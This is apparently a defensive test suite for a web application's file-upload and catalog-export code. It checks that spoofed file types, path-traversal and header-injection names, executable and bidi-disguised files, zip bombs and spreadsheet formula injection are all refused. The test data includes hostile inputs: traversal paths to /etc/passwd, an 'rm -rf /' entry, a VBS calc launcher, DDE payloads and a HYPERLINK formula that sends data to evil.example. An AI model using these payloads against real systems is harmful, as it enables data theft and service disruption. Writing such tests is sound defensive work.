/**
 * Upload attacks through the files module (and the catalog import that uses it): content type spoofing, oversize
 * bodies, path traversal in names, zip bombs dressed as XLSX; and formula injection in the catalog XLSX export.
 */
import fs from "node:fs";
import path from "node:path";
import { crc32, deflateRawSync } from "node:zlib";
import ExcelJS from "exceljs";
import fc from "fast-check";
import { beforeAll, describe, expect, it } from "vitest";
import type { Actor } from "~/modules/accounts/actor";
import { createImportJob, exportSupplierCatalog } from "~/modules/catalog/catalog.server";
import {
  contentDisposition,
  DOCUMENT_KINDS,
  FileError,
  IMAGE_KINDS,
  SPREADSHEET_KINDS,
  safeFileName,
  saveUpload,
} from "~/modules/files/files.server";
import { getPrisma } from "~/utils/db.server";
import { resetEnvForTests } from "~/utils/env.server";
import { parseSpreadsheet, SheetError } from "~/utils/spreadsheet.server";
import { createActor } from "../../fixtures/factories";
import { createTransformerCategory, withTempDataDir } from "../catalog/helpers";
import { securityRuns } from "./runs";

const dataDir = withTempDataDir();
let supplier: Actor;
let categoryId: string;

beforeAll(async () => {
  supplier = (await createActor({ kind: "SUPPLIER", verified: true })).actor;
  categoryId = (await createTransformerCategory()).id;
});

const upload = (name: string, bytes: Uint8Array, allowed = DOCUMENT_KINDS) =>
  saveUpload({
    organizationId: supplier.organizationId ?? "",
    uploadedById: supplier.userId,
    file: { name, bytes },
    allowed,
  });

async function refusal(p: Promise<unknown>): Promise<string | null> {
  try {
    await p;
    return null;
  } catch (e) {
    if (e instanceof FileError) return e.code;
    throw e;
  }
}

/** A minimal ZIP writer: entries deflated (or stored), optionally lying about their inflated size. */
function zip(entries: { name: string; data: Uint8Array; declaredSize?: number; store?: boolean }[]): Uint8Array {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name);
    const body = e.store ? Buffer.from(e.data) : deflateRawSync(e.data, { level: 9 });
    const crc = crc32(e.data);
    const size = e.declaredSize ?? e.data.byteLength;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(e.store ? 0 : 8, 8);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(body.byteLength, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(name.byteLength, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(e.store ? 0 : 8, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(body.byteLength, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(name.byteLength, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, body);
    centrals.push(central, name);
    offset += 30 + name.byteLength + body.byteLength;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.byteLength, 12);
  end.writeUInt32LE(offset, 16);
  return new Uint8Array(Buffer.concat([...locals, cd, end]));
}

const text = (s: string) => new TextEncoder().encode(s);
const UPLOAD_LIMIT_DEFAULT = 25 * 1024 * 1024;
const CONTENT_TYPES = text(
  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
);

async function realXlsx(rows: (string | number)[][]): Promise<Uint8Array> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet("Каталог");
  for (const r of rows) ws.addRow(r);
  return new Uint8Array(await wb.xlsx.writeBuffer());
}

const PDF = text("%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n");

describe("upload attacks", () => {
  it("type spoofing: the name and the browser's type are ignored, content decides", async () => {
    const exe = new Uint8Array([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00, 0xff, 0xff]);
    expect(await refusal(upload("spec.pdf", exe))).toBe("bad_type");
    expect(await refusal(upload("photo.png", text("<html><script>alert(1)</script></html>"), IMAGE_KINDS))).toBe(
      "bad_type",
    );
    expect(
      await refusal(
        upload("logo.png", text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), IMAGE_KINDS),
      ),
    ).toBe("bad_type");
    // a real PDF is not an image, and a PNG header followed by garbage does not survive re-encoding
    expect(await refusal(upload("photo.png", PDF, IMAGE_KINDS))).toBe("bad_type");
    const fakePng = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, ...text("<script>")]);
    expect(await refusal(upload("a.png", fakePng, IMAGE_KINDS))).toBe("bad_type");
    // a ZIP that is not an Office document is not a spreadsheet
    expect(
      await refusal(upload("price.xlsx", zip([{ name: "evil.sh", data: text("rm -rf /") }]), SPREADSHEET_KINDS)),
    ).toBe("bad_type");
    // the stored MIME type comes from the content, never from the request; the name ends in the content's extension
    const stored = await upload("datasheet.docx", PDF);
    expect(stored.mimeType).toBe("application/pdf");
    expect(stored.originalName).toBe("datasheet.docx.pdf");
  });

  it("oversize: refused by size before the content is read, and empty files too", async () => {
    process.env.UPLOAD_MAX_BYTES = String(64 * 1024);
    resetEnvForTests();
    try {
      const big = new Uint8Array(64 * 1024 + 1);
      big.set(PDF);
      expect(await refusal(upload("big.pdf", big))).toBe("too_large");
      expect(
        await refusal(
          saveUpload({
            organizationId: supplier.organizationId ?? "",
            uploadedById: null,
            file: new File([big], "big.pdf"),
            allowed: DOCUMENT_KINDS,
          }),
        ),
      ).toBe("too_large");
      expect(await refusal(upload("empty.pdf", new Uint8Array()))).toBe("empty");
    } finally {
      delete process.env.UPLOAD_MAX_BYTES;
      resetEnvForTests();
    }
  });

  it("path traversal in names: stored under a random key inside DATA_DIR; the name keeps no directories", async () => {
    const before = new Set(walk(dataDir));
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(
          fc.constantFrom(
            "../../../../etc/passwd",
            "..\\..\\windows\\system32\\cmd.exe",
            "/etc/shadow",
            "....//....//x.pdf",
            "%2e%2e%2fsecret.pdf",
            "spec.pdf\u0000.exe",
            "..",
            "\r\nSet-Cookie: x=1",
            '"; filename="evil.html',
          ),
          fc.string({ maxLength: 80 }),
        ),
        async (name) => {
          const refused = await refusal(upload(name, PDF));
          if (refused) {
            // only a name claiming an executable type is refused (see the executable-types test)
            expect(refused).toBe("bad_type");
            expect(safeFileName(name)).toMatch(/\.[^.\s]+$/);
            return;
          }
          const stored = await upload(name, PDF);
          // biome-ignore lint/suspicious/noControlCharactersInRegex: no control characters may survive
          expect(stored.originalName).not.toMatch(/[\\/\u0000-\u001f"]/);
          expect(stored.originalName.startsWith(".")).toBe(false);
          expect(stored.storageKey).toMatch(/^[0-9a-f]{32}$/);
          const header = contentDisposition(stored.originalName);
          expect(header).not.toMatch(/[\r\n]/);
          expect(header).toMatch(/^attachment; filename="[^"\\]*"; filename\*=UTF-8''[^"\s]*$/);
        },
      ),
      { numRuns: securityRuns(30) },
    );
    // every new file landed inside DATA_DIR, and nothing was written outside it
    const added = walk(dataDir).filter((f) => !before.has(f));
    expect(added.length).toBeGreaterThan(0);
    for (const f of added) expect(path.relative(dataDir, f).startsWith("..")).toBe(false);
    expect(fs.existsSync(path.join(dataDir, "..", "etc"))).toBe(false);
  });

  it("executable types are refused whatever the content; bidi overrides cannot disguise a name (probe #7)", async () => {
    const vbs = text('CreateObject("WScript.Shell").Run "calc.exe"\r\n');
    for (const name of ["install.hta", "run.bat", "app.js", "macro.vbs", "RUN.CMD", "page.html", "logo.svg"]) {
      expect(await refusal(upload(name, vbs)), name).toBe("bad_type");
    }
    // U+202E (right-to-left override) made "spec\u202Efdp.vbs" display as "specsbv.pdf"
    expect(await refusal(upload("spec\u202Efdp.vbs", vbs))).toBe("bad_type");
    expect(await refusal(upload("spec\u2066\u202Efdp.vbs\u2069", PDF))).toBe("bad_type");
    const hidden = await upload("отчёт\u202E\u200Bfdp.pdf", PDF);
    expect(hidden.originalName).toBe("отчётfdp.pdf");
    // plain text is stored as .txt, never under a name a desktop would run
    const notes = await upload("readme", text("Паспорт изделия\n"));
    expect(notes.originalName).toBe("readme.txt");
    expect((await upload("notes.md", text("# hi\n"))).originalName).toBe("notes.md.txt");
  });

  it("a 300k-row XLSX is refused at the row limit without tying up the server (probe #5)", async () => {
    const sheetXml = (rows: number) => {
      const parts = [
        '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>',
        '<row r="1"><c r="A1" t="inlineStr"><is><t>Артикул</t></is></c><c r="B1" t="inlineStr"><is><t>Цена</t></is></c></row>',
      ];
      for (let r = 2; r <= rows + 1; r++)
        parts.push(`<row r="${r}"><c r="A${r}"><v>${r}</v></c><c r="B${r}"><v>1.5</v></c></row>`);
      parts.push("</sheetData></worksheet>");
      return text(parts.join(""));
    };
    const book = (rows: number) =>
      zip([
        {
          name: "[Content_Types].xml",
          data: text(
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
          ),
        },
        {
          name: "_rels/.rels",
          data: text(
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
          ),
        },
        {
          name: "xl/workbook.xml",
          data: text(
            '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Лист1" sheetId="1" r:id="rId1"/></sheets></workbook>',
          ),
        },
        {
          name: "xl/_rels/workbook.xml.rels",
          data: text(
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
          ),
        },
        { name: "xl/worksheets/sheet1.xml", data: sheetXml(rows) },
      ]);
    // the hand-made workbook is a real one: a small copy reads back
    const small = await parseSpreadsheet(book(3), "xlsx");
    expect(small.headers).toEqual(["Артикул", "Цена"]);
    expect(small.rows).toEqual([
      [2, 1.5],
      [3, 1.5],
      [4, 1.5],
    ]);
    const huge = book(300_000);
    expect(huge.byteLength).toBeLessThan(UPLOAD_LIMIT_DEFAULT);
    // how long the event loop (every other request) waits while the file is read
    let lastTick = performance.now();
    let longestStall = 0;
    const ticker = setInterval(() => {
      const now = performance.now();
      longestStall = Math.max(longestStall, now - lastTick);
      lastTick = now;
    }, 5);
    const started = performance.now();
    const error = await parseSpreadsheet(huge, "xlsx").catch((e: unknown) => e);
    const elapsed = performance.now() - started;
    clearInterval(ticker);
    expect(error).toBeInstanceOf(SheetError);
    expect((error as SheetError).code).toBe("too_many_rows");
    // loading all 300k rows took 26 s in the probe; the stream stops after ~10k
    expect(elapsed).toBeLessThan(6_000);
    expect(longestStall).toBeLessThan(1_000);
  });

  it("zip bomb dressed as XLSX: refused before the importer unpacks it; an honest XLSX still imports", async () => {
    const sheetOfZeros = new Uint8Array(80 * 1024 * 1024); // 80 MB of zeros deflates to ~80 KB
    const bomb = zip([
      { name: "[Content_Types].xml", data: CONTENT_TYPES },
      { name: "xl/workbook.xml", data: text("<workbook/>") },
      { name: "xl/worksheets/sheet1.xml", data: sheetOfZeros },
    ]);
    expect(bomb.byteLength).toBeLessThan(1024 * 1024);
    expect(await refusal(upload("price.xlsx", bomb, SPREADSHEET_KINDS))).toBe("too_large");
    // the same bomb lying about its size in the headers
    const liar = zip([
      { name: "[Content_Types].xml", data: CONTENT_TYPES },
      { name: "xl/workbook.xml", data: text("<workbook/>") },
      { name: "xl/worksheets/sheet1.xml", data: sheetOfZeros, declaredSize: 1000 },
    ]);
    expect(await refusal(upload("price.xlsx", liar, SPREADSHEET_KINDS))).toBe("too_large");
    // through the catalog import use case
    const jobsBefore = await getPrisma().importJob.count();
    await expect(createImportJob(supplier, { file: { name: "прайс.xlsx", bytes: bomb } })).rejects.toBeInstanceOf(
      FileError,
    );
    expect(await getPrisma().importJob.count()).toBe(jobsBefore);

    const honest = await realXlsx([
      ["Артикул", "Наименование", "Цена без НДС"],
      ["ТМГ-1", "Трансформатор ТМГ-1000/10/0,4", 1250000],
    ]);
    const job = await createImportJob(supplier, {
      file: { name: "прайс.xlsx", bytes: honest },
      defaultCategoryId: categoryId,
    });
    expect(job.id).toBeTruthy();
  }, 60_000);
});

describe("XLSX formula injection in the catalog export", () => {
  it("text that a spreadsheet would evaluate is exported as inert text, never as a formula", async () => {
    const payloads = [
      '=HYPERLINK("http://evil.example/?"&A1,"Нажмите")',
      "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "\t=1+1",
      "\r=1+1",
      "=1+1",
    ];
    for (const [i, p] of payloads.entries()) {
      await getPrisma().product.create({
        data: {
          supplierId: supplier.organizationId ?? "",
          categoryId,
          slug: `formula-${i}-${Date.now()}`,
          sku: `F-${i}`,
          title: p,
          manufacturer: p,
          description: p,
          status: "PUBLISHED",
        },
      });
    }
    const xlsx = await exportSupplierCatalog(supplier);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(xlsx as unknown as ArrayBuffer);
    const ws = wb.worksheets[0];
    let checked = 0;
    ws.eachRow((row, n) => {
      if (n === 1) return;
      row.eachCell((cell) => {
        expect(typeof cell.value === "object" && cell.value !== null && "formula" in cell.value).toBe(false);
        const v = typeof cell.value === "string" ? cell.value.replace(/\n/g, "\r") : null;
        if (v && payloads.some((p) => v === `'${p.replace(/\n/g, "\r")}` || v === p.replace(/\n/g, "\r"))) {
          expect(v).toMatch(/^'/);
          checked++;
        }
      });
    });
    expect(checked).toBeGreaterThanOrEqual(payloads.length * 3);
    // and the raw sheet XML holds no <f> (formula) element at all
    const { inflateRawSync } = await import("node:zlib");
    const bytes = new Uint8Array(xlsx);
    const sheetXml = entryText(bytes, "xl/worksheets/sheet1.xml", inflateRawSync);
    expect(sheetXml).not.toMatch(/<f[ >]/);
  });
});

function walk(dir: string): string[] {
  if (!fs.existsSync(dir)) return [];
  return fs.readdirSync(dir, { withFileTypes: true }).flatMap((d) => {
    const p = path.join(dir, d.name);
    return d.isDirectory() ? walk(p) : [p];
  });
}

/** The text of one entry of a ZIP, located through the central directory. */
function entryText(bytes: Uint8Array, name: string, inflate: (b: Uint8Array) => Buffer): string {
  const view = new DataView(bytes.buffer, bytes.byteOffset, bytes.byteLength);
  let eocd = bytes.length - 22;
  while (eocd > 0 && view.getUint32(eocd, true) !== 0x06054b50) eocd--;
  let offset = view.getUint32(eocd + 16, true);
  for (let i = 0; i < view.getUint16(eocd + 10, true); i++) {
    const method = view.getUint16(offset + 10, true);
    const compressed = view.getUint32(offset + 20, true);
    const n = view.getUint16(offset + 28, true);
    const local = view.getUint32(offset + 42, true);
    const entryName = new TextDecoder().decode(bytes.subarray(offset + 46, offset + 46 + n));
    if (entryName === name) {
      const start = local + 30 + view.getUint16(local + 26, true) + view.getUint16(local + 28, true);
      const data = bytes.subarray(start, start + compressed);
      return new TextDecoder().decode(method === 8 ? inflate(data) : data);
    }
    offset += 46 + n + view.getUint16(offset + 30, true) + view.getUint16(offset + 32, true);
  }
  throw new Error(`${name} not in archive`);
}
